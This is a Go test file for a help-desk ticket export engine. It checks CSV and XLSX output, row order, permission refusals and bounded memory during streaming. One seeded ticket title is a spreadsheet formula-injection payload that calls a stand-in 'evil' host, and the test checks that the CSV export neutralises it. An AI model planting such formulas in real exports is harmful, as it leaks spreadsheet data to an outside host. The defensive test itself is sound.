package engine_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"vorgang/core/engine"
	"vorgang/core/fault"
	"vorgang/core/store"
	"vorgang/core/ticket"
)

// seedTeamTickets inserts n open incidents of it-1st-level straight into
// the store, a thousand at a time: an export reads them as the lists do.
func seedTeamTickets(t testing.TB, st *store.Store, n int, title func(i int) string) {
	t.Helper()
	at := time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC)
	for i := 0; i < n; i += 1000 {
		var docs []any
		for j := i; j < min(i+1000, n); j++ {
			created := at.Add(time.Duration(j) * time.Minute)
			docs = append(docs, &ticket.Ticket{Number: fmt.Sprintf("INC-2026-%06d", j+1), Process: "it-incident", Version: 1,
				Title: title(j), State: "new", Category: "open", Open: true, Priority: "medium", Team: "it-1st-level",
				Requester: "anna", Due: ticket.SortTime(created.Add(8 * time.Hour)), Created: created, Updated: created})
		}
		if _, err := st.DB().Collection(store.TicketsCollection).InsertMany(context.Background(), docs); err != nil {
			t.Fatal(err)
		}
	}
}

// TestExportTickets: the whole list in due order, every page of it, with
// a title a spreadsheet would run neutralised in CSV and kept as text in
// XLSX; a list the user may not see is refused before anything is written.
func TestExportTickets(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	const n = 450 // more than two pages of the store
	seedTeamTickets(t, f.store, n, func(i int) string {
		if i == 7 {
			return `=HYPERLINK("http://evil/?"&A1)`
		}
		return fmt.Sprintf("Drucker %d", i)
	})
	q := ticket.Query{Team: "it-1st-level", Limit: 10, After: "ignored"}

	var buf bytes.Buffer
	wrote, err := f.eng.ExportTickets(t.Context(), ben, q, "csv", &buf)
	if err != nil || wrote != n {
		t.Fatalf("export: %d rows, %v", wrote, err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(recs[0], engine.ExportColumns) || len(recs) != n+1 {
		t.Fatalf("header %v, %d lines", recs[0], len(recs))
	}
	if recs[1][0] != "INC-2026-000001" || recs[n][0] != fmt.Sprintf("INC-2026-%06d", n) || recs[1][8] != "2026-11-02T16:00:00Z" {
		t.Errorf("first and last: %v … %v", recs[1], recs[n])
	}
	if recs[8][2] != `'=HYPERLINK("http://evil/?"&A1)` {
		t.Errorf("formula title written as %q", recs[8][2])
	}

	buf.Reset()
	if _, err := f.eng.ExportTickets(t.Context(), ben, q, "xlsx", &buf); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows("tickets")
	if err != nil || len(rows) != n+1 || rows[8][2] != `=HYPERLINK("http://evil/?"&A1)` || rows[n][0] != fmt.Sprintf("INC-2026-%06d", n) {
		t.Fatalf("xlsx: %d rows, %v", len(rows), err)
	}

	for name, tt := range map[string]struct {
		q    ticket.Query
		want error
	}{
		"another team's queue":       {ticket.Query{Team: "it-2nd-level"}, fault.Forbidden},
		"a team queue without roles": {ticket.Query{Team: "it-1st-level"}, fault.Forbidden},
	} {
		actor := ben
		if strings.Contains(name, "without") {
			actor = anna
		}
		buf.Reset()
		if _, err := f.eng.ExportTickets(t.Context(), actor, tt.q, "csv", &buf); !errors.Is(err, tt.want) || buf.Len() != 0 {
			t.Errorf("%s: %v, %d bytes", name, err, buf.Len())
		}
	}
}

// liveHeap is a writer that, every mark bytes, collects garbage and notes
// the live heap: what an export holds while it streams.
type liveHeap struct {
	n, next, mark int
	peak          uint64
}

func (h *liveHeap) Write(p []byte) (int, error) {
	h.n += len(p)
	if h.n >= h.next {
		h.next += h.mark
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		h.peak = max(h.peak, m.HeapAlloc)
	}
	return len(p), nil
}

// TestExportBoundedMemory streams a large list and measures the live heap
// along the way: it stays well below what holding the rows would take
// (the rows alone, as written, are larger than the bound).
func TestExportBoundedMemory(t *testing.T) {
	f := newFixture(t)
	const n = 30_000
	seedTeamTickets(t, f.store, n, func(i int) string { return fmt.Sprintf("Drucker im Raum %d druckt nicht, bitte prüfen", i) })
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	h := &liveHeap{mark: 256 << 10}
	wrote, err := f.eng.ExportTickets(t.Context(), ben, ticket.Query{Team: "it-1st-level"}, "csv", io.Writer(h))
	if err != nil || wrote != n {
		t.Fatalf("export: %d rows, %v", wrote, err)
	}
	grew := int64(h.peak) - int64(before.HeapAlloc)
	t.Logf("%d rows, %.1f MB written; live heap %.1f MB before, at most %.1f MB during (+%.1f MB)",
		n, float64(h.n)/(1<<20), float64(before.HeapAlloc)/(1<<20), float64(h.peak)/(1<<20), float64(grew)/(1<<20))
	const bound = 2 << 20
	if h.n < 2*bound {
		t.Fatalf("only %d bytes written: the test does not tell streaming from holding", h.n)
	}
	if grew > bound {
		t.Errorf("the live heap grew by %d bytes while exporting: more than %d", grew, bound)
	}
}
